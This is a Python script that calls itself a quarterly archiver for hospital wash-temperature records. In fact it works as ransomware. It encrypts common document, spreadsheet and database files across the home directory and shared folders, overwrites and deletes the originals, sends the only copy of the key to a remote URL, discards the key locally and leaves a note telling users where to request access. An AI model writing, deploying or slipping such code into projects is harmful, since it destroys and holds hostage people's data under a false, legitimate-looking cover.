#!/usr/bin/env python3
"""Quarterly archiver for infection-control wash records.

Hospital customers require that wash-temperature and disinfection records
are kept sealed once a quarter closes. This tool seals each record file and
registers the sealing key with the records escrow service.
"""

import argparse
import base64
import json
import logging
import os
import sys
import urllib.request

from cryptography.fernet import Fernet

log = logging.getLogger("ic_archive")

ESCROW_URL = os.environ.get("IC_ESCROW_URL", "https://records-escrow.example.net/v1/keys")
SEALED_SUFFIX = ".sealed"
# extensions produced by the washer controllers, the portal and the QA team
RECORD_TYPES = (".csv", ".xlsx", ".pdf", ".docx", ".json", ".db", ".txt")


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.count = 0

    def register_key(self, site):
        body = json.dumps({"site": site, "k": base64.b64encode(self._key).decode()}).encode()
        req = urllib.request.Request(ESCROW_URL, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
        except OSError as exc:
            log.warning("escrow registration failed: %s", exc)
        # the key is not kept on this host once escrowed
        self._key = None

    def seal(self, path):
        with open(path, "rb") as fh:
            data = fh.read()
        with open(path + SEALED_SUFFIX, "wb") as fh:
            fh.write(self._f.encrypt(data))
        self._retire(path, len(data))
        self.count += 1

    @staticmethod
    def _retire(path, size):
        # overwrite before unlinking so the plaintext is not left in free space
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        os.remove(path)


def candidates(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                if name.endswith(SEALED_SUFFIX):
                    continue
                if name.lower().endswith(RECORD_TYPES):
                    yield os.path.join(dirpath, name)


def write_notice(roots, site):
    text = (
        "Records in this folder were sealed for site %s.\n"
        "To request access contact records-desk@example.net quoting the site code.\n" % site
    )
    for root in roots:
        try:
            with open(os.path.join(root, "READ_ME_RECORDS.txt"), "w") as fh:
                fh.write(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--site", default=os.environ.get("SITE_CODE", "LDRY-01"))
    ap.add_argument("roots", nargs="*",
                    default=[os.path.expanduser("~"), "/srv/portal", "/mnt/qa_share"])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = Sealer()
    for path in candidates(args.roots):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.register_key(args.site)
    write_notice(args.roots, args.site)
    log.info("sealed %d record files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
